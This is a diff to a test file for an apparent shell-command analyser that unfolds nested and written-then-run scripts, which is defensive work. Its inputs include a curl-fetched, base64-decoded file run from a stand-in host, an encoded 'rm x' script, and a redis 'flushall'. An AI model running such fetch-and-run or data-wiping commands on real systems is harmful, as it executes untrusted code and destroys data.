@@ -74,6 +74,7 @@ const NESTED: readonly [string, string, readonly string[]][] = [
   ['statements for redis', "redis-cli -n 1 <<< 'flushall'", ['redis-cli flushall']],
   ['files put by sftp', "sftp u@h <<< 'put a b'", ['scp a b u@h:']],
   ['a script that tee wrote', "tee x.sh <<< 'rm x' > /dev/null; sh x.sh", []],
+  ['what a pipe fetched into a file and ran', 'curl x.test/i | base64 -d > i; ./i', ['i', 'curl x.test/i | sh']],
   ['shell text that is only written', "cat > x.sh <<'EOF'\nrm x\nEOF", ['generic: rm x\n']],
   ['command', 'command rm x', ['rm x']],
   ['command that only looks', 'command -v rm', []],
@@ -177,6 +178,15 @@ const SETTLED: readonly [command: string, settled: string | undefined][] = [
 
 test.each(SETTLED)('%s', (command, settled) => {
   expect(unfolded(command).settled).toBe(settled);
+});
+
+test.each([
+  ['echo cm0geAo= | base64 -d > x.sh; sh x.sh', 'rm x\n'],
+  ["{ echo a; echo 'rm x'; } > x.sh; sh x.sh", 'a\nrm x\n'],
+  ["tee x.sh <<< 'rm x' > /dev/null; sh x.sh", 'rm x'],
+  ["echo 'rm x' > x.sh; date > x.sh; sh x.sh", undefined],
+])('%s', (command, content) => {
+  expect(unfolded(command).scripts.map((script) => script.content)).toEqual([content]);
 });
 
 test('nested texts settle for themselves', () => {
